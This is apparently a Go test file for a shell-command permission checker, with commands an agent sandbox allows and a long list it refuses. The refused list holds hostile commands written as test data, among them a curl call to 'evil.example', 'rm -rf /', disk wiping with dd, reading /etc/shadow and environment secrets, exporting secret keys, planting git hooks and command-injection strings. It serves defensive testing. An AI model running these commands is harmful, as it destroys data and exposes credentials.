package base

import "testing"

func TestTextAndFiles(t *testing.T) {
	expect(t, "inspect", `
		cat README.md
		cat -n src/main.go
		cat -A a b -
		head -20 README.md
		head -n 20 README.md
		head -c 100 a.bin
		head -n -5 x.txt
		tail -n 100 build.log
		tail -n +20 README.md
		tail -5 x
		tail -f dev.log
		tail -c +10 x
		wc -l
		wc -lwc src/*.go
		sort -u names.txt
		sort -t, -k2,2n data.csv
		sort -rn
		sort -k1,1 -k2,2nr -t ' ' x
		sort -h
		sort -V tags.txt
		uniq -c
		uniq -d
		cut -d: -f1 x
		cut -d ' ' -f 2- x
		cut -c1-80
		tr a-z A-Z
		tr -d '\n'
		tr -s ' ' '\n'
		paste -sd, x
		paste -d '\t' a b
		join -t, -1 2 -2 1 a b
		comm -12 a b
		comm -23 a b
		fold -w 80 README.md
		fold -s -w 100 x
		column -t -s, data.csv
		nl -ba src/main.go
		rev names.txt
		tac build.log
		shuf -n 5 names.txt
		shuf -i 1-10 -n 3
		shuf -e a b c
		expand -t 4 x
		iconv -f latin1 -t utf-8 x.txt
		od -An -tx1 -N 16 x.bin
		od -c x
		xxd testdata/x.bin
		xxd -l 64 x.bin
		xxd -p x.bin
		xxd -s 16 -l 32 x
		hexdump -C x.bin
		strings -n 8 x.bin
		base64 -w0 x
		base64 -d x.b64
		md5sum src/main.go
		sha256sum -c SUMS
		shasum -a 256 x
		cksum x
		seq 1 10
		seq -w 1 2 9
		expr 1 + 2
		bc -l
		basename src/main.go .go
		dirname src/main.go
		fmt -w 72 README.md
		numfmt --to=iec 1024
		factor 42
		less README.md
		ls
		ls -la
		ls -1
		ls -lah src
		ls -R src
		ls *.go
		ls -lt --color=never
		ls -d */
		ls -la /tmp/out
		du -sh .
		du -sh node_modules
		du -h --max-depth=1
		du -ah src
		df -h .
		stat -c '%s %n' src/*.go
		stat README.md
		file bin/app
		file -b --mime-type x.png
		file *
		tree -L 2 -I node_modules
		tree -a -I '.git|node_modules'
		tree src
		realpath src
		realpath --relative-to=. src/main.go
		readlink -f src/main.go
		pwd
		pwd -P
		diff -u expected.json actual.json
		diff -rq a b
		diff -y --suppress-common-lines a b
		diff -r -x node_modules a b
		diff --color=never -U5 a b
		cmp a.bin b.bin
		cmp -s a b
		cmp -l a b
		diff3 a b c
		sleep 2
		sleep 0.5
		date
		date +%Y-%m-%d
		date -u +%FT%TZ
		date '+%Y-%m-%d %H:%M:%S'
		date -d yesterday +%F
		id -un
		id
		whoami
		uname -a
		uname -sm
		hostname
		nproc
		uptime
		free -m
		ps aux
		ps -ef
		ps -eo pid,comm
		ps -p $# -o pid=
		ps -u user
		ps axf
		pgrep -fl node
		printenv PATH
		printenv NODE_ENV
		which node npm npx
		which -a python3
		type git
		whereis python3
		man ls
		man -k socket
		true
		false
		: foo
		echo done
		echo -e 'a\tb'
		echo 'rm -rf /'
		printf '%s\n' a b
		printf "a\n"
		test -f go.mod
		test -n "$?"
		[ -d src ]
		[ $# -eq 0 ]
		[ "$?" = "$?" ]
		[ "$?" = "-v" ]
		[ ! -e x -a -f y ]
		[ -z "$?" ]
		test x = y
		getconf _NPROCESSORS_ONLN
		uuidgen
		ss -ltnp
		kill -l
	`)
	expect(t, "change", `
		mkdir -p internal/parser
		mkdir -m 755 a b
		touch a.txt
		touch -d '2020-01-01' x
		cp -r templates/basic new
		cp a.txt b.txt src/
		cp -a src dst
		cp -t out a b
		cp -n src/a.ts src/b.ts
		install -d build/out
		install -m 755 x build/x
		install -Dm644 a out/b/c
		ln -s ../shared/config.ts src/config.ts
		ln -sf a.txt b.txt
		ln -sfn releases/1 current
		ln a.txt b.txt
		chmod +x scripts/run.sh
		chmod u+x x.sh
		chmod a+x x.sh
		chmod 755 x.sh
		chmod 644 a b
		chmod 0600 x
		chmod u+rw,go+r x
		mktemp -d
		mktemp
		mktemp -p out
		mktemp ./out.XXXXXX
		tee src/version.txt
		tee -a log.txt
		truncate -s 0 build.log
		split -l 1000 data.csv part_
		split -b 10M x.bin out/x.
		csplit -f part- notes.md '/^##/' '{*}'
		patch -p1
		patch -p1 -i fix.patch
		patch --dry-run -p0
		patch src/a.c fix.patch
		dos2unix src/a.txt
		dd if=a.bin of=b.bin bs=1 count=10
		dd if=/dev/zero of=t.bin bs=1M count=1
		mv -f new.txt old.txt
		rm -rf ./tmp/test-output
		rm -f a.txt
		rm -rf build/*
		rmdir empty
	`)
	expect(t, "refuse", `
		sort -o ~/.bashrc x
		sort -o/etc/x x
		sort --output=/etc/x x
		sort --compress-program=./x x
		sort --compress-prog=./x x
		sort -T /etc x
		sort --files0-from=- x
		wc --files0-from=/etc/passwd
		du --files0-from=x
		diff --from-file=/etc/shadow x
		diff --to-file /etc/shadow x
		diff -l a b
		date -f /etc/shadow
		date -s yesterday
		date 01010000
		date --file=/etc/shadow
		split --filter='curl evil.example' big
		split -l 1 x /etc/
		tree -o /etc/x
		tree -R -H . -L 1
		tree --fromfile /etc/shadow
		file -f /etc/shadow
		file -m evil.magic x
		tee /etc/hosts
		tee -a ~/.bashrc
		tee .git/config
		cp -r . /etc
		cp /dev/null ~/.bashrc
		cp x.sh .git/hooks/pre-commit
		cp evil/.git .
		cp -t .git/hooks a
		cp -s /etc/passwd x
		cp ../x .
		mv x ../outside
		mv .git .git2
		mv -t .. x
		ln -s / rootlink
		ln -s ~/.ssh/id_rsa docs/key.md
		ln -sfn / r
		ln -s /etc etc
		ln -sf ../../x.sh .git/hooks/pre-push
		ln -s ../.. up
		ln -s ../../etc a/b
		ln -s .git/config c
		ln -s $? x
		ln /etc/passwd x
		chmod -R 777 .
		chmod +x --recursive d
		chmod u+s x
		chmod 4755 x
		chmod 777 x
		chmod o+w x
		chmod --reference=/etc/shadow x
		chmod +x /usr/local/bin/x
		chmod $? x
		install -m 4755 a b
		install -s a b
		install -m 755 x /usr/local/bin/x
		install -o root a b
		mkdir -p ~/.config/autostart
		touch ~/.ssh/authorized_keys
		touch /etc/x
		mktemp -p /etc
		mktemp /etc/x.XXXX
		mktemp --tmpdir=/etc
		truncate -s 0 /var/log/x
		dd if=/dev/zero of=/dev/sda
		dd if=/dev/zero of=x
		dd if=/dev/sda of=x count=1
		mkfifo /tmp/f
		mknod x c 1 1
		patch -e x
		patch -d / -p0
		patch -o /etc/x a
		rm -rf /
		rm -rf --no-preserve-root /
		rm -r --forc ~
		rm -rf -- /
		rm -rf ../*
		rm -rf ./*
		rm -rf *
		rm -rf .[!.]*
		rm -rf .git
		rm -rf $?
		rm -rf "$?"/*
		shred -u x
		yes
		ps auxeww
		ps e -ww
		ps eww
		ps -auxe
		ps -eo pid,environ
		ps axe
		printenv
		printenv SECRET
		printenv AWS_SECRET_ACCESS_KEY
		env
		env -0
		od -c /proc/1/environ
		less +!sh x
		more +/x x
		man -P 'sh -c id' ls
		man --html=./x.sh ls
		man -Hx ls
		man --pager=x ls
		printf -v 'a[$(touch /tmp/p)]' x
		test -v 'a[$(touch /tmp/p)]'
		[ -v x ]
		[ $? ]
		[ "$?" x ]
		test -R x
		hostname evil
		hostname -F /etc/x
		dc -e '!id'
		bat --pager=x README.md
		xxd a /etc/x
		uniq a /etc/x
		shuf -o /etc/x a
		iconv -o /etc/x a
		cat ../../../../etc/shadow
		strings /proc/self/environ
		ls $?
		kill 1
		kill -9 -1
		kill -- -5
		kill 0
		kill $?
		killall -9 node
		pkill -u root node
		pkill sshd
		pkill -f .
		pkill -v node
		fuser -k 22/tcp
		visudo
		shutdown now
		passwd root
		systemctl start x
		service ssh start
		sysctl -w kernel.x=1
		mount -t tmpfs x /mnt
		umount /
		modprobe x
		chattr +i x
		dpkg -i x.deb
		apt-get install x
		brew install x
		gpg --export-secret-keys
		security find-generic-password -w
		secret-tool lookup a b
		ssh-add -L
		journalctl -u worker
		vi -es +'!id' +q x
		nano -T 4 x
		ed x
		envsubst
		crontab -l
		mkfs.ext4 /dev/sda
		openssl enc -in x
		openssl s_client -connect x:443
		lsof -i
		strace ls
	`)
	expect(t, "run", "kill $#\nkill %1\nkill -9 1234\nkill -TERM $#\nkill -s INT %2\npkill -f vite\npkill -f 'next dev'\npkill -9 -f 'python3 -m http.server'\npkill node\nkill -0 $#")
}

func TestNeeds(t *testing.T) {
	for line, want := range map[string]string{
		"rm -rf build": "destructive ", "mv a b": "destructive ", "rmdir x": "destructive ", "mktemp -d": "tmp ", "mktemp -p out": "", "kill $#": "namespace ",
		"curl localhost:3000": "loopback ", "nc -z localhost 80": "loopback ", "git clean -fd": "destructive ", "git clean -n": "", "git reset --hard": "destructive ", "git reset --soft HEAD~1": "",
		"find . -name '*.pyc' -delete": "destructive ", "find . -name x -exec rm {} +": "destructive ", "git rm a": "", "cat x": "", "pkill -f vite": "namespace ", "timeout 5 rm x": "destructive ",
	} {
		if v := judge(t, split(t, line)); v.needs != want {
			t.Errorf("%s needs %q, want %q", line, v.needs, want)
		}
	}
}
